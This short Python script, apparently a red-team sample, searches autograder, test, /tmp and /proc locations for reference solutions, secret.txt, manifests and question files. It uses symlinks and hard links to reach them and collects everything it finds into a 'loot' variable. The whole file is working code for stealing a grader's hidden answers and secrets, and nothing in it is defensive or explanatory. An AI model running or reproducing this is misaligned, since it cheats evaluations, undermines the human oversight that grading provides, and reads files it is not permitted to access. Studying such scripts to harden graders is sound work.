# ruff: noqa  # written as an attacker writes
"""The usual places of tests, bundles and submissions, by absolute and relative names and by links."""

# %%
import glob
import os

places = """. .. ../.. ../tests tests ../../tests /autograder /autograder/source /autograder/submission
    /autograder/source/tests files ../files /tmp /tmp/* /tmp/*/* /tmp/nabla-bundle-*/files /dev/shm
    /proc/self/cwd /proc/self/root /proc/1/cwd /proc/1/root/tmp /dev/fd /run /mnt /srv /opt""".split()
loot = []
for place in places:
    for path in glob.glob(place) + [place]:
        for name in ("", "reference.py", "secret.txt", "q1.py", "manifest.json"):
            target = os.path.join(path, name)
            link = f"link{len(loot)}"
            for attempt in (target, link):
                try:
                    if attempt is link:
                        os.symlink(target, link)
                    if os.path.isfile(attempt):
                        loot.append(open(attempt).read())
                except OSError:
                    pass
            try:
                os.link(target, f"hard{len(loot)}")
                loot.append(open(f"hard{len(loot)}").read())
            except OSError:
                pass
loot = "\n".join(loot)
# %%otherwise
